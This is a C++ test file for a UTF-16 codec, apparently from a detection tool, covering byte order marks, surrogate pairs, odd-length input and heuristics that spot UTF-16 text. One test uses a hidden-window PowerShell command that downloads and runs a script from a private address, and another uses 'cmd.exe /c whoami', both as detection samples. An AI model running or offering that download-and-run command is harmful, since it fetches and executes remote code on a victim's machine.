#include "ioc/codec/utf16.hpp"

#include <catch2/catch.hpp>

#include <random>
#include <string>

#include "ioc/codec/charset.hpp"

using namespace std::string_literals;
using ioc::ErrorCode;
using ioc::codec::decode_utf16;
using ioc::codec::encode_utf16;
using ioc::codec::Endian;
using ioc::codec::looks_like_utf16be;
using ioc::codec::looks_like_utf16le;
using ioc::codec::Utf16Report;

namespace {
const std::string kReplacement = "\xEF\xBF\xBD";
}

TEST_CASE("decode_utf16: little and big endian", "[codec][utf16]") {
  Utf16Report rep;
  auto le = decode_utf16("h\0i\0"s, Endian::kLittle, true, &rep);
  REQUIRE(le);
  CHECK(*le == "hi");
  CHECK_FALSE(rep.bom_stripped);
  CHECK_FALSE(rep.odd_trailing_byte);
  CHECK(rep.replaced == 0);
  auto be = decode_utf16("\0h\0i"s, Endian::kBig, true);
  REQUIRE(be);
  CHECK(*be == "hi");
  // The same bytes read in the other order.
  CHECK(*decode_utf16("h\0"s, Endian::kBig) == "\xE6\xA0\x80");  // U+6800
}

TEST_CASE("decode_utf16: leading BOM", "[codec][utf16]") {
  Utf16Report rep;
  auto le = decode_utf16("\xFF\xFEh\0i\0"s, Endian::kLittle, false, &rep);
  REQUIRE(le);
  CHECK(*le == "hi");
  CHECK(rep.bom_stripped);
  auto be = decode_utf16("\xFE\xFF\0h"s, Endian::kBig, true, &rep);
  REQUIRE(be);
  CHECK(*be == "h");
  CHECK(rep.bom_stripped);
  // Only a BOM.
  CHECK(decode_utf16("\xFF\xFE"s, Endian::kLittle)->empty());
}

TEST_CASE("decode_utf16: BOM of the other byte order is not stripped", "[codec][utf16]") {
  Utf16Report rep;
  auto r = decode_utf16("\xFE\xFFh\0"s, Endian::kLittle, false, &rep);
  REQUIRE(r);
  CHECK(*r == "\xEF\xBF\xBEh");  // U+FFFE then 'h'
  CHECK_FALSE(rep.bom_stripped);
  auto b = decode_utf16("\xFF\xFE\0h"s, Endian::kBig, false, &rep);
  REQUIRE(b);
  CHECK(*b == "\xEF\xBF\xBEh");
  CHECK_FALSE(rep.bom_stripped);
}

TEST_CASE("decode_utf16: BOM in the middle is kept", "[codec][utf16]") {
  Utf16Report rep;
  auto r = decode_utf16("h\0\xFF\xFEi\0"s, Endian::kLittle, false, &rep);
  REQUIRE(r);
  CHECK(*r == "h\xEF\xBB\xBFi");
  CHECK_FALSE(rep.bom_stripped);
  // Two leading BOMs: only the first is stripped.
  CHECK(*decode_utf16("\xFF\xFE\xFF\xFEh\0"s, Endian::kLittle) == "\xEF\xBB\xBFh");
}

TEST_CASE("decode_utf16: trailing odd byte", "[codec][utf16]") {
  auto e = decode_utf16("h\0i"s, Endian::kLittle, true);
  REQUIRE_FALSE(e);
  CHECK(e.error().code == ErrorCode::kTruncated);
  CHECK(e.error().offset == 2);
  CHECK(e.error().message == "odd number of bytes in UTF-16 input");
  Utf16Report rep;
  auto r = decode_utf16("h\0i"s, Endian::kLittle, false, &rep);
  REQUIRE(r);
  CHECK(*r == "h");
  CHECK(rep.odd_trailing_byte);
  auto one = decode_utf16("x", Endian::kBig, true);
  REQUIRE_FALSE(one);
  CHECK(one.error().offset == 0);
  CHECK(decode_utf16("x", Endian::kBig, false, &rep)->empty());
  CHECK(rep.odd_trailing_byte);
}

TEST_CASE("decode_utf16: lone surrogates", "[codec][utf16]") {
  Utf16Report rep;
  SECTION("lone high surrogate") {
    auto r = decode_utf16("\x3D\xD8h\0"s, Endian::kLittle, true, &rep);
    REQUIRE(r);
    CHECK(*r == kReplacement + "h");
    CHECK(rep.replaced == 1);
  }
  SECTION("lone low surrogate") {
    auto r = decode_utf16("\x00\xDEh\0"s, Endian::kLittle, true, &rep);
    REQUIRE(r);
    CHECK(*r == kReplacement + "h");
    CHECK(rep.replaced == 1);
  }
  SECTION("high surrogate at the end") {
    auto r = decode_utf16("h\0\x3D\xD8"s, Endian::kLittle, true, &rep);
    REQUIRE(r);
    CHECK(*r == "h" + kReplacement);
    CHECK(rep.replaced == 1);
  }
  SECTION("reversed pair") {
    auto r = decode_utf16("\xDE\x00\xD8\x3D"s, Endian::kBig, true, &rep);
    REQUIRE(r);
    CHECK(*r == kReplacement + kReplacement);
    CHECK(rep.replaced == 2);
  }
}

TEST_CASE("decode_utf16: surrogate pair", "[codec][utf16]") {
  Utf16Report rep;
  auto r = decode_utf16("\x3D\xD8\x00\xDE"s, Endian::kLittle, true, &rep);
  REQUIRE(r);
  CHECK(*r == "\xF0\x9F\x98\x80");  // U+1F600
  CHECK(rep.replaced == 0);
  CHECK(*decode_utf16("\xD8\x3D\xDE\x00"s, Endian::kBig) == "\xF0\x9F\x98\x80");
}

TEST_CASE("decode_utf16: embedded NULs are kept", "[codec][utf16]") {
  auto r = decode_utf16("a\0\0\0b\0"s, Endian::kLittle);
  REQUIRE(r);
  CHECK(r->size() == 3);
  CHECK(*r == "a\0b"s);
  CHECK(*decode_utf16("\0\0\0\0"s, Endian::kLittle) == "\0\0"s);
}

TEST_CASE("decode_utf16: non-ASCII BMP characters", "[codec][utf16]") {
  const std::string le =
      "G\0r\0\xfc\0\xdf\0e\0 \0\x13\x27"s;  // Python "Grüße ✓".encode("utf-16le")
  auto r = decode_utf16(le, Endian::kLittle, true);
  REQUIRE(r);
  CHECK(*r == "Grüße ✓");
}

TEST_CASE("decode_utf16: empty input", "[codec][utf16]") {
  Utf16Report rep;
  rep.replaced = 5;
  auto r = decode_utf16("", Endian::kLittle, true, &rep);
  REQUIRE(r);
  CHECK(r->empty());
  CHECK(rep.replaced == 0);
}

TEST_CASE("decode_utf16: long input across conversion chunks", "[codec][utf16]") {
  // 70000 ASCII units, then a pair straddling unit 65535/65536, then a lone
  // high surrogate just before another chunk boundary.
  std::string text(65535, 'a');
  text += "\xF0\x9F\x98\x80";
  text += std::string(1000, 'b');
  text += "é";
  const std::string le = encode_utf16(text, Endian::kLittle);
  REQUIRE(le.size() == 2 * (65535 + 2 + 1000 + 1));
  CHECK(*decode_utf16(le, Endian::kLittle, true) == text);
  const std::string be = encode_utf16(text, Endian::kBig);
  CHECK(*decode_utf16(be, Endian::kBig, true) == text);

  std::string units;  // 65535 'x' + lone lead + 'y'
  for (int i = 0; i < 65535; ++i) units += "x\0"s;
  units += "\x3D\xD8y\0"s;
  Utf16Report rep;
  auto r = decode_utf16(units, Endian::kLittle, true, &rep);
  REQUIRE(r);
  CHECK(*r == std::string(65535, 'x') + kReplacement + "y");
  CHECK(rep.replaced == 1);
}

TEST_CASE("encode_utf16", "[codec][utf16]") {
  CHECK(encode_utf16("hi", Endian::kLittle) == "h\0i\0"s);
  CHECK(encode_utf16("hi", Endian::kBig) == "\0h\0i"s);
  CHECK(encode_utf16("hi", Endian::kLittle, true) == "\xFF\xFEh\0i\0"s);
  CHECK(encode_utf16("hi", Endian::kBig, true) == "\xFE\xFF\0h\0i"s);
  CHECK(encode_utf16("", Endian::kLittle).empty());
  CHECK(encode_utf16("", Endian::kLittle, true) == "\xFF\xFE"s);
  CHECK(encode_utf16("\xF0\x9F\x98\x80", Endian::kLittle) == "\x3D\xD8\x00\xDE"s);
  CHECK(encode_utf16("Grüße ✓", Endian::kLittle) == "G\0r\0\xfc\0\xdf\0e\0 \0\x13\x27"s);
  CHECK(encode_utf16("a\0b"s, Endian::kLittle) == "a\0\0\0b\0"s);
}

TEST_CASE("encode_utf16: invalid UTF-8 becomes U+FFFD", "[codec][utf16]") {
  CHECK(encode_utf16("a\xFF"
                     "b",
                     Endian::kLittle) ==
        "a\0\xFD\xFF"
        "b\0"s);
  CHECK(encode_utf16("\xED\xA0\x80", Endian::kBig) == "\xFF\xFD\xFF\xFD\xFF\xFD"s);
  CHECK(encode_utf16("\xE2\x82", Endian::kLittle) == "\xFD\xFF"s);
  // Round trip: the invalid byte comes back as U+FFFD.
  CHECK(*decode_utf16(encode_utf16("a\xC0z", Endian::kLittle), Endian::kLittle) ==
        "a" + kReplacement + "z");
}

TEST_CASE("encode_utf16: round trip with decode_utf16", "[codec][utf16]") {
  for (const std::string& text : {""s, "hello"s, "Grüße ✓"s, "\xF0\x9F\x98\x80 smile"s, "a\0b"s,
                                  std::string(100000, 'z'), [] {
                                    std::string s;
                                    for (int i = 0; i < 30000; ++i) s += "é€😀";
                                    return s;
                                  }()}) {
    for (auto endian : {Endian::kLittle, Endian::kBig}) {
      for (bool bom : {false, true}) {
        auto r = decode_utf16(encode_utf16(text, endian, bom), endian, true);
        REQUIRE(r);
        CHECK(*r == text);
      }
    }
  }
}

TEST_CASE("looks_like_utf16le", "[codec][utf16]") {
  const std::string ps = encode_utf16(
      "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://"
      "10.0.0.5/a.ps1')\"",
      Endian::kLittle);
  CHECK(looks_like_utf16le(ps));
  CHECK_FALSE(looks_like_utf16be(ps));
  CHECK_FALSE(looks_like_utf16le("powershell -nop -w hidden"));
  CHECK_FALSE(looks_like_utf16le("a\0"s));   // too short
  CHECK_FALSE(looks_like_utf16le("a\0b"s));  // too short
  CHECK(looks_like_utf16le("a\0b\0"s));
  CHECK_FALSE(looks_like_utf16le(""));
  // Mostly non-ASCII (Cyrillic) text does not have zero high bytes.
  CHECK_FALSE(looks_like_utf16le(encode_utf16("Привет мир", Endian::kLittle)));
  // 9 of 10 units with a zero high byte is enough, 8 of 10 is not.
  CHECK(looks_like_utf16le(encode_utf16("abcdefghi\xD0\x9F", Endian::kLittle)));
  CHECK_FALSE(looks_like_utf16le(encode_utf16("abcdefgh\xD0\x9F\xD0\x9F", Endian::kLittle)));
}

TEST_CASE("looks_like_utf16be", "[codec][utf16]") {
  const std::string be = encode_utf16("cmd.exe /c whoami", Endian::kBig);
  CHECK(looks_like_utf16be(be));
  CHECK_FALSE(looks_like_utf16le(be));
  CHECK_FALSE(looks_like_utf16be("cmd.exe /c whoami"));
  CHECK_FALSE(looks_like_utf16be("\0a"s));
}

TEST_CASE("encode_utf16: long mixed and invalid UTF-8 across conversion chunks", "[codec][utf16]") {
  // Fragments of valid and ill-formed UTF-8 so that chunk boundaries fall inside
  // sequences; the result must match repair_utf8 of the input.
  const std::string fragments[] = {"a",        "\xC3\xA9", "\xE2\x82\xAC", "\xF0\x9F\x98\x80",
                                   "\xE2\x82", "\x80",     "\xFF",         "\xED\xA0\x80",
                                   "\xF0\x9F", "\xC0\xAF"};
  std::mt19937 rng(7);
  std::uniform_int_distribution<std::size_t> pick(0, std::size(fragments) - 1);
  std::string s;
  while (s.size() < 300000) s += fragments[pick(rng)];
  const std::string repaired = ioc::codec::repair_utf8(s);
  for (auto endian : {Endian::kLittle, Endian::kBig}) {
    auto r = decode_utf16(encode_utf16(s, endian), endian, true);
    REQUIRE(r);
    CHECK(*r == repaired);
  }
}

TEST_CASE("encode_utf16: a leading U+FEFF reads back as a BOM", "[codec][utf16]") {
  // Documented consequence of stripping a leading BOM: write one with bom=true
  // to keep a leading U+FEFF character.
  const std::string text = "\xEF\xBB\xBFx";
  CHECK(*decode_utf16(encode_utf16(text, Endian::kLittle), Endian::kLittle) == "x");
  CHECK(*decode_utf16(encode_utf16(text, Endian::kLittle, true), Endian::kLittle) == text);
}
